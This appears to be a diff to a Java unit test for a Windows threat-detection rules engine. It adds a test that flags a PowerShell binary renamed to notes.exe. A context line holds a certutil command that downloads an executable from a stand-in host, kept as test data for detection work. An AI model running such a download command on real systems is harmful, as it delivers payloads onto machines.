@@ -104,6 +104,24 @@ class BuiltInRulesTest {
     }
 
     @Test
+    void aProgramThatWasRenamed() {
+        Lines lines = new Lines()
+                .add(Map.of(
+                        Role.IMAGE, "C:\\Users\\x\\notes.exe",
+                        Role.ORIGINAL_NAME, "PowerShell.EXE",
+                        Role.COMMAND_LINE, "notes.exe -x"))
+                .add(Map.of(
+                        Role.IMAGE, "C:\\Windows\\System32\\cmd.exe",
+                        Role.ORIGINAL_NAME, "Cmd.Exe",
+                        Role.COMMAND_LINE, "cmd /c dir"))
+                .add(Map.of(Role.IMAGE, "C:\\Windows\\System32\\cmd.exe", Role.COMMAND_LINE, "cmd /c dir"))
+                .judge();
+        assertTrue(lines.rules(0).contains("win-renamed"));
+        assertEquals(Set.of(), lines.rules(1));
+        assertEquals(Set.of(), lines.rules(2));
+    }
+
+    @Test
     void whatTriageTellsMakesRowsOnly() {
         Lines lines = new Lines()
                 .add(Map.of(Role.HOST, "ws1", Role.COMMAND_LINE, "certutil -urlcache -f http://x.example/a a.exe"))
